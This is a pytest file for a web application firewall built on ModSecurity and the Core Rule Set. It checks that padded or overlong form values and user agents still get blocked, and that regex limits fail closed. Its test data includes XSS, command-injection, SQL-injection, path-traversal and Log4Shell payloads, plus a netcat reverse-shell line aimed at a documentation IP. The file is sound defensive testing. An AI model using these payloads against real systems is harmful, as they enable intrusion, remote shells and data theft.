"""Long values: no pattern holds a thread up, and no padding hides an attack."""

from __future__ import annotations

from pathlib import Path

import pytest

from sekisho.edge import FORM, Edge, default_crs_dir
from sekisho.edge import waf as waf_module
from sekisho.edge.find_crs import crs_files
from sekisho.edge.modsecurity import RequestParts, shared_engine
from tests.rooms.edge.knock import knock, log_lines, post

RULES = Path(waf_module.__file__).with_name("rules")
PATTERN_GAVE_UP = 9_900_050
SHORT = "-" * 60
LONG = {
    "japanese": "よろしくお願いします。" * 40,
    "hyphens": "-" * 900,
    "braces": "{" * 1500,
    "line ends": "\r\n" * 100,
}

# Each of these is seen by one of the rules that are taken away for long values.
TAKEN_AWAY = {
    941160: "<svg/onload=alert(1)>",
    941170: "@import 'x'",
    932100: "; ls -la",
    932105: "$(wget http://192.0.2.1/a)",
    932110: "& dir c:\\windows",
    932115: "& powershell.exe -enc aaaa",
    932150: "wget http://192.0.2.1/a",
}
OTHERS = [
    "<script>alert(1)</script>",
    "<iframe src=//192.0.2.1>",
    "javascript:alert(1)",
    "a=b;c:url(javascript:alert(1))",
    "data:text/html;base64,PHNjcmlwdD4=",
    "| nc 192.0.2.1 99 -e /bin/sh",
    "`wget 192.0.2.1`",
    "1' OR '1'='1' -- ",
    "x' UNION SELECT a FROM b -- ",
    "../../../../etc/passwd",
    "${jndi:ldap://192.0.2.1/a}",
]


@pytest.mark.parametrize("rule", TAKEN_AWAY)
def test_a_short_value_is_seen_by_the_sets_own_rule(rule: int, edge: Edge, folder: Path) -> None:
    assert post(edge, "/find", {"note": TAKEN_AWAY[rule]}).status == 403
    assert rule in log_lines(folder)[-1]["rules"]


@pytest.mark.parametrize("padding", LONG)
@pytest.mark.parametrize("attack", [*TAKEN_AWAY.values(), *OTHERS])
def test_padding_hides_no_attack(attack: str, padding: str, edge: Edge) -> None:
    # 932150 and its stand-in look at a value's begin only.
    if attack != TAKEN_AWAY[932150]:
        assert post(edge, "/find", {"note": LONG[padding] + attack}).status == 403
    assert post(edge, "/find", {"note": f"{attack} {LONG[padding]}"}).status == 403


def test_a_long_browser_name_takes_the_rules_away_too(edge: Edge, folder: Path) -> None:
    long_agent = {"User-Agent": "Mozilla/5.0 " + "x" * 300 + " <svg/onload=alert(1)>"}
    assert knock(edge, headers=long_agent).status == 403
    assert 941160 not in log_lines(folder)[-1]["rules"]


def test_a_pattern_that_gives_up_refuses(tmp_path: Path) -> None:
    """With a limit so low that ordinary text reaches it; with the real one nothing known does."""
    small = tmp_path / "engine.conf"
    text = (RULES / "engine.conf").read_text()
    small.write_text(text.replace("Limit 100000", "Limit 50").replace("ion 100000", "ion 50"))
    setup, *rest = crs_files(default_crs_dir())
    ours = [RULES / "before_crs.conf", RULES / "long_values.conf"]
    files = [small, setup, *ours, *rest, RULES / "after_crs.conf"]
    rules = shared_engine().read_rules(files=files)
    body = b"note=" + SHORT.encode()
    headers = [(b"Host", b"a"), (b"Content-Type", FORM.encode()), (b"Content-Length", b"65")]
    finding = rules.inspect(RequestParts(b"POST", b"/", b"1.1", headers, body))
    assert finding.status == 403
    assert PATTERN_GAVE_UP in [match.rule_id for match in finding.matches]


@pytest.mark.parametrize(
    "unit", ["-", "{", "<!--", "${", "=", "a=", "select ", "</", " ", "\n", "\r\n"]
)
@pytest.mark.parametrize("length", [60, 100, 900, 2000])
def test_no_known_repetition_makes_a_pattern_give_up(
    unit: str, length: int, edge: Edge, folder: Path
) -> None:
    post(edge, "/free", {"a": (unit * length)[:length]})
    assert PATTERN_GAVE_UP not in log_lines(folder)[-1]["rules"]
